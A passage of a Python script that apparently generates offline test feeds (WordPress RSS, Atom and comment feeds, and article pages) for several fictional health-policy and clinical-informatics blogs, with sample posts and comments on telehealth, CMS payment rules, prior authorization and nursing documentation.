              "<p>Would love a follow-up on how you decide which four.</p>"),
         ]},
        {"slug": "interpreters-on-video", "date": "2026-11-19 09:30",
         "title": "Interpreters on video: the workflow we almost forgot",
         "author": "Dana Okoye", "cats": ["Telehealth", "Equity"],
         "body": """<p>Adding a medical interpreter to a video visit should be one click. In our first design it was a phone call to a separate service, a conference code and a lot of waiting. Patients who needed an interpreter had visits that ran twelve minutes longer on average.</p>
<p>We now book the interpreter when the visit is scheduled, and the video platform invites them automatically.</p>""",
         "comments": [
             ("a", "Carmen Ruiz", "2026-11-19 13:20", None,
              "<p>Booking at scheduling time is the fix. On-demand interpreters are wonderful until they are all busy.</p>"),
             ("b", "Dana Okoye", "2026-11-20 08:15", "a",
              "<p>Agreed, we keep on-demand as the fallback only.</p>"),
         ]},
        {"slug": "quick-links-telehealth-policy", "date": "2026-11-22 16:00",
         "title": "Quick links: telehealth policy odds and ends",
         "author": "Zoë Marchetti", "cats": ["Links"],
         "body": """<p>A few things I read this week, with a line on each. The remote monitoring billing codes are getting another look. Several states changed their rules on prescribing after a video-only visit. And a payer in our region now pays the same for audio-only behavioural health as for video. Comments are off on link posts; write to me instead.</p>""",
         "comments": "none"},
    ],
}

POLICY = {
    "dir": "payment-matters", "kind": "wordpress", "zone": "EST",
    "title": "Payment Matters",
    "link": "https://payment-matters.example",
    "description": "Health policy and payment for people who do not read "
                   "the Federal Register for fun: CMS, ONC and value-based care",
    "post_id": 4410, "comment_id": 8801,
    "articles": [
        {"slug": "fee-schedule-final-rule", "date": "2026-11-03 13:00",
         "title": "Reading the physician fee schedule final rule without a headache",
         "author": "Gwen Asante", "cats": ["CMS", "Fee schedule"],
         "body": """<p>The final physician fee schedule arrived at well over a thousand pages. You do not need to read all of it. Start with the conversion factor, then the sections on telehealth, then anything that names your specialty. Skip the regulatory impact tables until you know what you are looking for.</p>
<p>This year the items most of my readers will care about are the telehealth provisions and the changes to how remote monitoring is billed. Both are summarised below in plain language, with the page numbers if you want the source.</p>""",
         "comments": [
             ("a", "Ron Whitaker", "2026-11-03 15:30", None,
              "<p>Conversion factor first is the right order. Everything else is a rounding error by comparison for most practices.</p>"),
             ("b", "Gwen Asante", "2026-11-03 17:45", "a",
              "<p>Except for the practices where telehealth is half the visits. For them it is the other way round.</p>"),
             ("c", "Elena Petrova", "2026-11-04 12:10", None,
              "<p>Thank you for including page numbers. Our compliance officer asks for them every time.</p>"),
             ("d", "Sunil Rao", "2026-11-04 20:55", None,
              "<p>Any read on whether the virtual supervision flexibility stays?</p>"),
             ("e", "Gwen Asante", "2026-11-05 09:20", "d",
              "<p>For now, yes, for most services. Read the exceptions list carefully.</p>"),
         ]},
        {"slug": "aco-reach-benchmark-changes", "date": "2026-11-05 16:30",
         "title": "ACO REACH: what the benchmark changes mean for small groups",
         "author": "Gwen Asante", "cats": ["Value-based care", "ACOs"],
         "body": """<p>Benchmarks decide whether an ACO earns shared savings. The new methodology blends historical spending with regional trends differently, and small groups with few attributed patients feel every change more than large ones.</p>
<p>If you are a small group in an ACO, ask your ACO for its modelled benchmark under the new rules, and for the number of your patients it is based on.</p>""",
         "comments": [
             ("a", "Tara Quinn", "2026-11-05 19:00", None,
              "<p>Our ACO would not share the modelling. Is that normal?</p>"),
             ("b", "Gwen Asante", "2026-11-05 21:10", "a",
              "<p>It is common and it should not be. Ask in writing.</p>"),
             ("c", "Miguel Santos", "2026-11-06 14:25", None,
              "<p>Small numbers cut both ways: one expensive patient can erase a year of savings.</p>"),
         ]},
        {"slug": "prior-authorization-api-deadline", "date": "2026-11-09 14:15",
         "title": "Prior authorization APIs: the 2027 deadline is closer than it looks",
         "author": "Gwen Asante", "cats": ["CMS", "Prior authorization", "Interoperability"],
         "body": """<p>Payers in federal programs must offer a prior authorization API, and must answer faster, starting in 2027. On paper providers have nothing to do. In practice, providers who want the time savings need their EHR vendor to connect to those APIs, and vendors build in release cycles.</p>
<p>If you have not asked your vendor for its plan and date, ask this month.</p>""",
         "comments": [
             ("a", "Marcus Lindqvist", "2026-11-09 17:00", None,
              "<p>From the interface side: the payer APIs will not all behave the same on day one. Plan for a year of quirks.</p>"),
             ("b", "Gwen Asante", "2026-11-09 18:30", "a",
              "<p>A year of quirks sounds optimistic.</p>"),
             ("c", "Joan Fairley", "2026-11-10 11:45", None,
              "<p>Our vendor&rsquo;s answer was &ldquo;on the roadmap.&rdquo; Not a date.</p>"),
             ("d", "Ahmed Karimi", "2026-11-11 08:20", "c",
              "<p>Same here. Put the date in the contract renewal if you can.</p>"),
         ]},
        {"slug": "tefca-after-year-one-repost", "date": "2026-11-11 15:00",
         "title": "TEFCA after year one: what the exchange numbers do and don't say",
         "author": "Marcus Lindqvist", "cats": ["TEFCA", "Guest post"],
         "link": "https://fhir-desk.example/2026/11/10/tefca-after-year-one/",
         "body": """<p><em>This post first appeared on The FHIR Desk and is shared here with the author&rsquo;s permission.</em></p>
<p>The headline numbers for nationwide exchange look good: more participants, more queries, more documents returned. As someone who builds the interfaces, I read them with two questions in mind.</p>
<p>First, what share of those queries came back with something a clinician used? A returned document that nobody opens is traffic, not interoperability. Second, how many of the queries were for treatment, and how many for everything else? The framework allows several purposes, and the mix is changing.</p>
<p>Neither number is published in a way that answers those questions today. Until it is, be careful with any slide that says exchange &ldquo;doubled.&rdquo;</p>""",
         "comments": "none"},
        {"slug": "mips-scores-are-out", "date": "2026-11-16 02:30",
         "title": "MIPS scores are out. Now what?",
         "author": "Gwen Asante", "cats": ["MIPS", "Quality"],
         "body": """<p>Preliminary feedback is out, and the usual Sunday-night emails have started. Before you panic about a score, check three things: which measures were scored, whether your data submission was complete, and whether any exception applied that you forgot to claim.</p>
<p>Targeted review exists for exactly the cases where something went wrong. The window is short.</p>""",
         "comments": [
             ("a", "Lydia Brandt", "2026-11-16 13:05", None,
              "<p>We found a missing measure submission this way last year. The targeted review fixed it.</p>"),
             ("b", "Omar Haddad", "2026-11-17 10:00", None,
              "<p>Is it worth requesting review for a small adjustment?</p>"),
             ("c", "Gwen Asante", "2026-11-17 14:40", "b",
              "<p>If the error is clear and documented, yes. It costs a form and an afternoon.</p>"),
         ]},
        {"slug": "site-neutral-payment-explained", "date": "2026-11-18 17:00",
         "title": "Site-neutral payment, explained for clinicians",
         "author": "Gwen Asante", "cats": ["Payment policy"],
         "body": """<p>The same clinic visit can be paid at different rates depending on whether the clinic is billed as part of a hospital. Site-neutral payment would pay the same rate wherever the service happens. Hospitals argue the higher rate pays for standby capacity; payers argue it pays for the name on the door.</p>
<p>For clinicians, the practical question is whether your clinic&rsquo;s budget depends on that difference. Ask your finance team; the answer is often yes.</p>""",
         "comments": [
             ("a", "Victor Hale", "2026-11-18 20:30", None,
              "<p>Clearest explanation of this I have read. Sharing with our residents.</p>"),
             ("b", "Ines Carvalho", "2026-11-19 12:15", None,
              "<p>Rural hospitals are the hard case. Standby capacity is real there.</p>"),
         ]},
        {"slug": "information-blocking-penalties", "date": "2026-11-20 15:30",
         "title": "Information blocking penalties: who actually gets fined",
         "author": "Gwen Asante", "cats": ["ONC", "Information blocking"],
         "body": """<p>Developers of certified health IT, exchanges and networks can face civil money penalties for information blocking. Providers face &ldquo;appropriate disincentives&rdquo; through the payment programs they take part in, which is a different mechanism with different amounts.</p>
<p>So far, enforcement has been slow and public detail thin. That will change; the complaint portal has years of submissions waiting.</p>""",
         "comments": [
             ("a", "Noah Feld", "2026-11-20 18:00", None,
              "<p>The difference between penalties and disincentives trips up almost every board presentation I see.</p>"),
             ("b", "Gwen Asante", "2026-11-20 19:10", "a",
              "<p>Which is why I put it in the title.</p>"),
             ("c", "Keiko Mori", "2026-11-21 10:30", None,
              "<p>Do you expect the first penalties against developers or networks?</p>"),
             ("d", "Gwen Asante", "2026-11-21 14:00", "c",
              "<p>Developers. The complaints there are older and better documented.</p>"),
         ]},
    ],
}

# A hand-built blog behind a feed proxy: its items carry no comment feed
# (no wfw:commentRss), only <comments>, the article page.  The page's
# <head> names the thread's comment feed, so rounds finds it with one look.
# Offline, the pages stand in for the articles (pages/<slug>.html).  Its
# articles are dated after the other blogs', in 2026-W48.
BEDSIDE = {
    "dir": "bedside-informatics", "kind": "page", "zone": "+0000",
    "comment_zone": "Z",
    "title": "Bedside Informatics",
    "link": "https://bedside-informatics.example/",
    "description": "A nurse informaticist on the screens at the bedside: "
                   "flowsheets, alarms and the clicks in between",
    "author": "Ines Moreau",
    "tag": "tag:bedside-informatics.example,2026",
    "post_id": 501, "comment_id": 901,
    "articles": [
        {"slug": "flowsheet-rows-nobody-reads", "date": "2026-11-25 09:30",
         "title": "The flowsheet rows nobody reads",
         "author": "Ines Moreau", "cats": ["Nursing documentation", "EHR"],
         "link": "https://bedside-informatics.example/posts/flowsheet-rows-nobody-reads/",
         "body": """<p>We counted the flowsheet rows our medical ward documents every shift and then asked who reads each one. Of 212 rows, 61 had not been opened by anyone but the nurse who charted them in the last quarter.</p>
<p>We retired 40 of them after a month of talking to the people who might have needed them. Charting time per shift went down by about eleven minutes. Nobody has asked for a single row back.</p>""",
         "comments": [
             ("a", "Tomasz Wojcik", "2026-11-25 13:15", None,
              "<p>How did you find out who opens a row? Our audit log only says who charted it.</p>"),
             ("b", "Ines Moreau", "2026-11-25 16:40", "a",
              "<p>The EHR's access log has row-level views if you ask the analytics team nicely. It took them two weeks.</p>"),
             ("c", "Abena Owusu", "2026-11-26 08:05", None,
              "<p>Eleven minutes a shift is an hour a week per nurse. That is the number to put in front of the nursing council.</p>"),
         ]},
        {"slug": "alarm-fatigue-one-unit-at-a-time", "date": "2026-11-26 14:00",
         "title": "Alarm fatigue, one unit at a time",
         "author": "Ines Moreau", "cats": ["Alarms", "Patient safety"],
         "link": "https://bedside-informatics.example/posts/alarm-fatigue-one-unit-at-a-time/",
         "body": """<p>Our step-down unit had 340 monitor alarms per bed per day. We changed three default limits and the delay on one, with the unit's cardiologist in the room.</p>
<p>Six weeks later it is 190 alarms per bed per day, and no event was missed that the old limits would have caught. The next unit wants the same changes; we will not copy them without the same conversation.</p>""",
         "comments": [
             ("a", "Lucia Fernandes", "2026-11-26 18:30", None,
              "<p>Which limit made the biggest difference? My guess is the SpO2 low limit.</p>"),
             ("b", "Ines Moreau", "2026-11-26 20:10", "a",
              "<p>Yes, 90 to 88 with a 15 second delay. It was half of the drop on its own.</p>"),
         ]},
    ],
}

BLOGS = [CMIO, FHIR, MINNEC, TELE, POLICY, BEDSIDE]

GENERATOR = "https://wordpress.org/?v=6.6.2"

# ---------------------------------------------------------------------------


def article_link(blog, a):
    if "link" in a:
        return a["link"]
    t = when(a["date"])
    if blog["kind"] == "atom":
        return "%s%s/%s.html" % (blog["link"], t.strftime("%Y/%m"), a["slug"])
    return "%s/%s/%s/" % (blog["link"], t.strftime("%Y/%m/%d"), a["slug"])


def number(blog):
    """Gives every article a post id and every comment a comment id."""
    pid = blog["post_id"]
    cid = blog["comment_id"]
    for a in blog["articles"]:
        a["pid"] = pid
        pid += 3
        if a["comments"] == "none":
            continue
        ids = {}
        for c in a["comments"]:
            if len(c) > 5:          # a late comment: its own id
                ids[c[0]] = c[5]
                continue
            ids[c[0]] = cid
            cid += 1
        a["cids"] = ids


def last_date(blog):
    ts = []
    for a in blog["articles"]:
        ts.append(when(a["date"]))
        if a["comments"] != "none":
            ts += [when(c[2]) for c in a["comments"]]
    return max(ts)


RSS_NS = """<rss version="2.0"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:wfw="http://wellformedweb.org/CommentAPI/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:atom="http://www.w3.org/2005/Atom"
	xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"
	xmlns:slash="http://purl.org/rss/1.0/modules/slash/"
	>
"""


def wp_feed(blog):
    z = blog["zone"]
    o = ['<?xml version="1.0" encoding="UTF-8"?>', RSS_NS.rstrip("\n"),
         "<channel>",
         "\t<title>%s</title>" % escape(blog["title"]),
         '\t<atom:link href="%s/feed/" rel="self" type="application/rss+xml" />'
         % blog["link"],
         "\t<link>%s</link>" % blog["link"],
         "\t<description>%s</description>" % escape(blog["description"]),
         "\t<lastBuildDate>%s</lastBuildDate>" % rfc822(last_date(blog), z),
         "\t<language>en-US</language>",
         "\t<sy:updatePeriod>\n\thourly\t</sy:updatePeriod>",
         "\t<sy:updateFrequency>\n\t1\t</sy:updateFrequency>",
         "\t<generator>%s</generator>" % GENERATOR]
    # Newest first, as WordPress writes them.
    for a in sorted(blog["articles"], key=lambda a: a["date"], reverse=True):
        link = article_link(blog, a)
        o.append("\t<item>")
        o.append("\t\t<title>%s</title>" % wp_title(a["title"]))
        o.append("\t\t<link>%s</link>" % escape(link))
        if a["comments"] != "none":
            o.append("\t\t<comments>%s#comments</comments>" % escape(link))
        o.append("\t\t<dc:creator>%s</dc:creator>" % cdata(a["author"]))
        o.append("\t\t<pubDate>%s</pubDate>" % rfc822(when(a["date"]), z))
        for c in a["cats"]:
            o.append("\t\t<category>%s</category>" % cdata(c))
        o.append('\t\t<guid isPermaLink="false">%s/?p=%d</guid>'
                 % (blog["link"], a["pid"]))
        o.append("\t\t<description>%s</description>"
                 % cdata(excerpt(a["body"])))
        o.append("\t\t<content:encoded>%s</content:encoded>"
                 % cdata(a["body"] + "\n"))
        if a["comments"] != "none":
            o.append("\t\t<wfw:commentRss>comments/%s.xml</wfw:commentRss>"
                     % a["slug"])
            o.append("\t\t<slash:comments>%d</slash:comments>"
                     % len(a["comments"]))
        o.append("\t</item>")
    o += ["</channel>", "</rss>", ""]
    return "\n".join(o)


def wp_comments(blog, a):
    z = blog["zone"]
    link = article_link(blog, a)
    names = {c[0]: c[1] for c in a["comments"]}
    newest = max([when(a["date"])] + [when(c[2]) for c in a["comments"]])
    o = ['<?xml version="1.0" encoding="UTF-8"?>', """<rss version="2.0"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:atom="http://www.w3.org/2005/Atom"
	xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"
	>""", "<channel>",
         "\t<title>Comments on: %s</title>" % wp_title(a["title"]),
         '\t<atom:link href="%sfeed/" rel="self" type="application/rss+xml" />'
         % escape(link),
         "\t<link>%s</link>" % escape(link),
         "\t<description>%s</description>" % escape(blog["description"]),
         "\t<lastBuildDate>%s</lastBuildDate>" % rfc822(newest, z),
         "\t<sy:updatePeriod>\n\thourly\t</sy:updatePeriod>",
         "\t<sy:updateFrequency>\n\t1\t</sy:updateFrequency>",
         "\t<generator>%s</generator>" % GENERATOR]
    # WordPress lists comments newest first as well.
    for c in sorted(a["comments"], key=lambda c: c[2], reverse=True):
        key, who, date, parent, text = c[:5]
        cid = a["cids"][key]
        body = text
        desc = plain(text)
        if parent:
            marker = 'In reply to <a href="%s#comment-%d">%s</a>.' % (
                escape(link), a["cids"][parent], escape(names[parent]))
            body = marker + "\n" + text
            desc = marker + "\n" + desc
        o.append("\t<item>")
        o.append("\t\t<title>By: %s</title>" % escape(who))
        o.append("\t\t<link>%s#comment-%d</link>" % (escape(link), cid))
        o.append("\t\t<dc:creator>%s</dc:creator>" % cdata(who))
        o.append("\t\t<pubDate>%s</pubDate>" % rfc822(when(date), z))
        o.append('\t\t<guid isPermaLink="false">%s/?p=%d#comment-%d</guid>'
                 % (blog["link"], a["pid"], cid))
        o.append("\t\t<description>%s</description>" % cdata(desc))
        o.append("\t\t<content:encoded>%s</content:encoded>"
                 % cdata(body + "\n"))
        o.append("\t</item>")
    o += ["</channel>", "</rss>", ""]
    return "\n".join(o)


def atom_feed(blog):
    z = blog["zone"]
    tag = blog["tag"]
    o = ['<?xml version="1.0" encoding="UTF-8"?>',
         '<feed xmlns="http://www.w3.org/2005/Atom"'
         ' xmlns:thr="http://purl.org/syndication/thread/1.0"'
         ' xml:lang="en">',
         "  <id>%s:blog</id>" % tag,
         "  <title>%s</title>" % escape(blog["title"]),
         "  <subtitle>%s</subtitle>" % escape(blog["description"]),
         "  <updated>%s</updated>" % rfc3339(last_date(blog), z),
         '  <link rel="alternate" type="text/html" href="%s"/>' % blog["link"],
         '  <link rel="self" type="application/atom+xml" href="%sfeeds/posts/default"/>'
         % blog["link"],
         "  <author>",
         "    <name>%s</name>" % escape(blog["author"]),
         "    <uri>%sabout.html</uri>" % blog["link"],
         "  </author>",
         '  <generator uri="https://minimum-necessary.example/colophon.html">'
         "handmade</generator>"]
    for a in sorted(blog["articles"], key=lambda a: a["date"], reverse=True):
        link = article_link(blog, a)
        t = when(a["date"])
        o.append("  <entry>")
        o.append("    <id>%s:post-%d</id>" % (tag, a["pid"]))
        o.append("    <published>%s</published>" % rfc3339(t, z))
        o.append("    <updated>%s</updated>" % rfc3339(t, z))
        for c in a["cats"]:
            o.append('    <category term=%s/>' % quoteattr(c))
        o.append('    <title type="text">%s</title>' % escape(a["title"]))
        o.append('    <content type="html">%s</content>' % escape(a["body"]))
        o.append('    <link rel="alternate" type="text/html" href=%s/>'
                 % quoteattr(link))
        if a["comments"] != "none":
            n = len(a["comments"])
            o.append('    <link rel="replies" type="application/atom+xml"'
                     ' href="comments/%s.xml" thr:count="%d"/>'
                     % (a["slug"], n))
            o.append('    <link rel="replies" type="text/html"'
                     ' href=%s thr:count="%d"/>'
                     % (quoteattr(link + "#comments"), n))
            o.append("    <thr:total>%d</thr:total>" % n)
        o.append("  </entry>")
    o += ["</feed>", ""]
    return "\n".join(o)


def atom_comments(blog, a):
    cz = blog["comment_zone"]
    tag = blog["tag"]
    link = article_link(blog, a)
    post_id = "%s:post-%d" % (tag, a["pid"])
    newest = max([when(a["date"])] + [when(c[2]) for c in a["comments"]])
    o = ['<?xml version="1.0" encoding="UTF-8"?>',
         '<feed xmlns="http://www.w3.org/2005/Atom"'
         ' xmlns:thr="http://purl.org/syndication/thread/1.0">',
         "  <id>%s.comments</id>" % post_id,
         "  <title>Comments on: %s</title>" % escape(a["title"]),
         "  <updated>%s</updated>" % rfc3339(newest, cz),
         '  <link rel="alternate" type="text/html" href=%s/>' % quoteattr(link),
         '  <link rel="self" type="application/atom+xml"'
         ' href="%sfeeds/%d/comments/default"/>' % (blog["link"], a["pid"]),
         "  <author><name>%s</name></author>" % escape(blog["author"])]
    # Oldest first here: the two platforms differ, and readers must cope.
    for c in sorted(a["comments"], key=lambda c: c[2]):
        key, who, date, parent, text = c[:5]
        cid = a["cids"][key]
        t = when(date)
        words = plain(text).split()
        title = " ".join(words[:6]) + (" ..." if len(words) > 6 else "")
        o.append("  <entry>")
        o.append("    <id>%s.comment-%d</id>" % (post_id, cid))
        o.append("    <published>%s</published>" % rfc3339(t, cz))
        o.append("    <updated>%s</updated>" % rfc3339(t, cz))
        o.append('    <title type="text">%s</title>' % escape(title))
        o.append('    <content type="html">%s</content>' % escape(text))
        o.append('    <link rel="alternate" type="text/html" href=%s/>'
                 % quoteattr("%s#c%d" % (link, cid)))
        o.append("    <author><name>%s</name></author>" % escape(who))
        if parent:
            pid = a["cids"][parent]
            o.append('    <thr:in-reply-to ref="%s.comment-%d" href=%s'
                     ' type="text/html"/>'
                     % (post_id, pid, quoteattr("%s#c%d" % (link, pid))))
        else:
            o.append('    <thr:in-reply-to ref="%s" href=%s type="text/html"/>'
                     % (post_id, quoteattr(link)))
        o.append("  </entry>")
    o += ["</feed>", ""]
    return "\n".join(o)


def page_feed(blog):
    """RSS 2.0 as a feed proxy passes it on: no wfw:commentRss; <comments>
    names the article page (here the offline page, relative)."""
    z = blog["zone"]
    o = ['<?xml version="1.0" encoding="UTF-8"?>', RSS_NS.rstrip("\n"),
         "<channel>",
         "\t<title>%s</title>" % escape(blog["title"]),
         '\t<atom:link href="%sindex.xml" rel="self" type="application/rss+xml" />'
         % blog["link"],
         "\t<link>%s</link>" % blog["link"],
         "\t<description>%s</description>" % escape(blog["description"]),
         "\t<lastBuildDate>%s</lastBuildDate>" % rfc822(last_date(blog), z),
         "\t<language>en-US</language>",
         "\t<sy:updatePeriod>\n\tdaily\t</sy:updatePeriod>",
         "\t<sy:updateFrequency>\n\t1\t</sy:updateFrequency>",
         "\t<generator>Hugo 0.128.0</generator>"]
    for a in sorted(blog["articles"], key=lambda a: a["date"], reverse=True):
        o.append("\t<item>")
        o.append("\t\t<title>%s</title>" % escape(a["title"]))
        o.append("\t\t<link>%s</link>" % escape(article_link(blog, a)))
        o.append("\t\t<comments>pages/%s.html</comments>" % a["slug"])
        o.append("\t\t<dc:creator>%s</dc:creator>" % cdata(a["author"]))
        o.append("\t\t<pubDate>%s</pubDate>" % rfc822(when(a["date"]), z))
        for c in a["cats"]:
            o.append("\t\t<category>%s</category>" % cdata(c))
        o.append('\t\t<guid isPermaLink="false">%s:post-%d</guid>'
                 % (blog["tag"], a["pid"]))
        o.append("\t\t<description>%s</description>"
                 % cdata(excerpt(a["body"])))
        o.append("\t\t<content:encoded>%s</content:encoded>"
                 % cdata(a["body"] + "\n"))
        o.append("\t\t<slash:comments>%d</slash:comments>"
                 % len(a["comments"]))
        o.append("\t</item>")
    o += ["</channel>", "</rss>", ""]
    return "\n".join(o)


def page_html(blog, a):
    """The article page: its <head> names the thread's comment feed."""
    t = html.escape(a["title"])
    return "\n".join([
        "<!DOCTYPE html>",
        '<html lang="en">',
        "<head>",
        '<meta charset="utf-8">',
        "<title>%s &ndash; %s</title>" % (t, html.escape(blog["title"])),
        '<link rel="canonical" href="%s">'
        % html.escape(article_link(blog, a)),
        '<link rel="alternate" type="application/rss+xml" title="%s"'
        ' href="../feed.xml">' % html.escape(blog["title"]),
        '<link rel="alternate" type="application/atom+xml"'
        ' title="Comments on &ldquo;%s&rdquo;" href="../comments/%s.xml">'
        % (t, a["slug"]),
        "</head>",
        "<body>",
        "<article><h1>%s</h1>" % t,
        a["body"],
        "</article>",
        "</body>",
        "</html>",
        ""])


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write(text)


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(
        os.path.abspath(__file__))
    for blog in BLOGS:
        number(blog)
        d = os.path.join(out, blog["dir"])
        if blog["kind"] == "atom":
            write(os.path.join(d, "feed.xml"), atom_feed(blog))
        elif blog["kind"] == "page":
            write(os.path.join(d, "feed.xml"), page_feed(blog))
        else:
            write(os.path.join(d, "feed.xml"), wp_feed(blog))
        for a in blog["articles"]:
            if a["comments"] == "none":
                continue
            p = os.path.join(d, "comments", a["slug"] + ".xml")
            if blog["kind"] == "page":
                write(os.path.join(d, "pages", a["slug"] + ".html"),
                      page_html(blog, a))
            if blog["kind"] in ("atom", "page"):
                write(p, atom_comments(blog, a))
            else:
                write(p, wp_comments(blog, a))


if __name__ == "__main__":
    main()
